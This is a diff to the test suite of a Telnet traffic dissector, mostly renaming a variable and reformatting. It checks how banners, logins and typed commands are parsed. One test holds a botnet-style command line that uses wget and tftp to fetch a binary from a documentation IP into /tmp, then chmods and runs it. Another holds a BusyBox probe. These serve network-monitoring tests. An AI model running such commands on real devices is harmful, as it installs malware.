@@ -15,7 +15,7 @@ from tests.dissectors.samples import events, facts, packets, values
 
 def talk(*parts: tuple[bool, bytes]) -> list[object]:
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
-    return [said for from_client, data in parts for said in stream.feed(packet, data, from_client)]
+    return [parsed for from_client, data in parts for parsed in stream.feed(packet, data, from_client)]
 
 
 def of_client(port: int) -> list[Packet]:
@@ -25,15 +25,17 @@ def of_client(port: int) -> list[Packet]:
 def test_two_logins() -> None:
     """A refused login and an accepted one; corrected typing is read as it was meant."""
     stream = Telnet().stream(Packet())
-    said = [said for packet in of_client(49180) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
+    parsed = [
+        parsed for packet in of_client(49180) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
+    ]
     banner = "SG350-28 28-Port Gigabit Managed Switch User Access Verification"
-    assert events(said) == [
+    assert events(parsed) == [
         ("TelnetBanner", banner),
         ("TelnetLogin", "admin", True, "refused", seal("admin", b"wrong-secret")),
         ("TelnetLogin", "netops", True, "accepted", seal("netops", b"right-secret")),
     ]
-    assert facts(said) == [("02:00:5e:00:53:01", "10.20.30.1", "telnet.banner", banner)]
-    assert "secret" not in repr(events(said))
+    assert facts(parsed) == [("02:00:5e:00:53:01", "10.20.30.1", "telnet.banner", banner)]
+    assert "secret" not in repr(events(parsed))
     assert stream.idle == (False, True)
 
 
@@ -52,9 +54,9 @@ def test_prompts_that_name_the_device(shown: bytes, expected: list[tuple[str, st
     later = (False, b"\r\nother login: "), (True, b"admin\r\n")
     assert values(talk((False, shown), (True, b"admin\r\n"), *later)) == expected
     stream, packet = Telnet().stream(Packet()), Packet(proto=6)
-    said = [*stream.feed(packet, shown, False), *stream.finish()]
-    assert values(said) == expected
-    assert events(said) == []
+    parsed = [*stream.feed(packet, shown, False), *stream.finish()]
+    assert values(parsed) == expected
+    assert events(parsed) == []
 
 
 def test_a_program_is_planted() -> None:
@@ -62,9 +64,11 @@ def test_a_program_is_planted() -> None:
     addresses are left out.
     """
     stream = Telnet().stream(Packet())
-    said = [said for packet in of_client(49181) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
+    parsed = [
+        parsed for packet in of_client(49181) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
+    ]
     line = "cd /tmp; wget http://203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel"
-    assert events(said) == [
+    assert events(parsed) == [
         ("TelnetLogin", "root", True, "accepted", seal("root", b"factory-secret")),
         ("TelnetCommand", "/bin/busybox LZRD"),
         ("TelnetCommand", line),
@@ -80,8 +84,8 @@ def test_a_program_is_planted() -> None:
         (b"chmod +x l; ./l\r\0", "chmod +x l; ./l"),
     ],
 )
-def test_lines_that_are_told_without_a_login(typed: bytes, told: str) -> None:
-    assert events(talk((False, b"BusyBox\r\n# "), (True, typed)))[-1] == ("TelnetCommand", told)
+def test_lines_that_are_told_without_a_login(typed: bytes, found: str) -> None:
+    assert events(talk((False, b"BusyBox\r\n# "), (True, typed)))[-1] == ("TelnetCommand", found)
 
 
 def test_what_else_is_typed_stays_unsaid() -> None:
@@ -129,7 +133,7 @@ def test_listening_ends() -> None:
 )
 def test_results(shown: bytes, result: str) -> None:
     """Words, another prompt, a shell, or nothing that tells."""
-    said = talk(
+    parsed = talk(
         (False, b"host login: "),
         (True, b"root\r\n"),
         (False, b"Password: "),
@@ -137,7 +141,7 @@ def test_results(shown: bytes, result: str) -> None:
         (False, shown),
         (True, b"l"),
     )
-    assert [event for event in events(said) if event[0] == "TelnetLogin"] == [
+    assert [event for event in events(parsed) if event[0] == "TelnetLogin"] == [
         ("TelnetLogin", "root", True, result, seal("root", b"x"))
     ]
 
@@ -147,8 +151,10 @@ def test_hanging_up_is_no_answer() -> None:
     nobody waits, nothing is told.
     """
     stream = Telnet().stream(Packet())
-    said = [said for packet in of_client(49182) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
-    assert events([*said, *stream.finish()])[-1] == (
+    parsed = [
+        parsed for packet in of_client(49182) for parsed in stream.feed(packet, packet.payload, packet.dport == 23)
+    ]
+    assert events([*parsed, *stream.finish()])[-1] == (
         "TelnetLogin",
         "root",
         True,
@@ -171,13 +177,13 @@ def test_hanging_up_is_no_answer() -> None:
 
 def test_password_alone() -> None:
     """Some machines ask for a password only."""
-    said = talk((False, b"Vigor login\r\nPassword: "), (True, b"x\r\n"), (False, b"\r\n> "), (True, b"sys"))
-    assert events(said) == [("TelnetBanner", "Vigor login"), ("TelnetLogin", "", True, "accepted", seal("", b"x"))]
+    parsed = talk((False, b"Vigor login\r\nPassword: "), (True, b"x\r\n"), (False, b"\r\n> "), (True, b"sys"))
+    assert events(parsed) == [("TelnetBanner", "Vigor login"), ("TelnetLogin", "", True, "accepted", seal("", b"x"))]
 
 
 def test_last_login_is_no_prompt() -> None:
     """Only the line that is answered is a prompt."""
-    said = talk(
+    parsed = talk(
         (False, b"a login: "),
         (True, b"u\r\n"),
         (False, b"Password: "),
@@ -185,13 +191,13 @@ def test_last_login_is_no_prompt() -> None:
         (False, b"Last login: Tue Nov 24 on tty1\r\n$ "),
         (True, b"w"),
     )
-    assert events(said)[-1] == ("TelnetLogin", "u", True, "accepted", seal("u", b"x"))
+    assert events(parsed)[-1] == ("TelnetLogin", "u", True, "accepted", seal("u", b"x"))
 
 
 def test_escaped_bytes_and_options_in_text() -> None:
     """Options may stand anywhere; a doubled IAC is a byte."""
-    said = talk((False, b"ab\xff\xfb\x01c\xff\xffd\r\nlogin: "), (True, b"x"))
-    assert values(said) == [("telnet.banner", "abc\N{REPLACEMENT CHARACTER}d")]
+    parsed = talk((False, b"ab\xff\xfb\x01c\xff\xffd\r\nlogin: "), (True, b"x"))
+    assert values(parsed) == [("telnet.banner", "abc\N{REPLACEMENT CHARACTER}d")]
 
 
 def test_gap_forgets_the_login() -> None:
@@ -200,8 +206,8 @@ def test_gap_forgets_the_login() -> None:
     list(stream.feed(packet, b"login: ", False))
     list(stream.feed(packet, b"root\r\n", True))
     list(stream.gap(packet, 10, False))
-    said = [*stream.feed(packet, b"\r\n# ", False), *stream.feed(packet, b"id\r\n", True)]
-    assert said == []
+    parsed = [*stream.feed(packet, b"\r\n# ", False), *stream.feed(packet, b"id\r\n", True)]
+    assert parsed == []
 
 
 def test_other_protocols() -> None:
@@ -212,5 +218,5 @@ def test_other_protocols() -> None:
 
 def test_memory_is_bounded() -> None:
     """Text without end is not kept."""
-    said = talk((False, b"a\r\n" * 50_000 + b"login: "), (True, b"u" * 5000 + b"\r\n"))
-    assert len(values(said)[0][1]) <= 1024
+    parsed = talk((False, b"a\r\n" * 50_000 + b"login: "), (True, b"u" * 5000 + b"\r\n"))
+    assert len(values(parsed)[0][1]) <= 1024
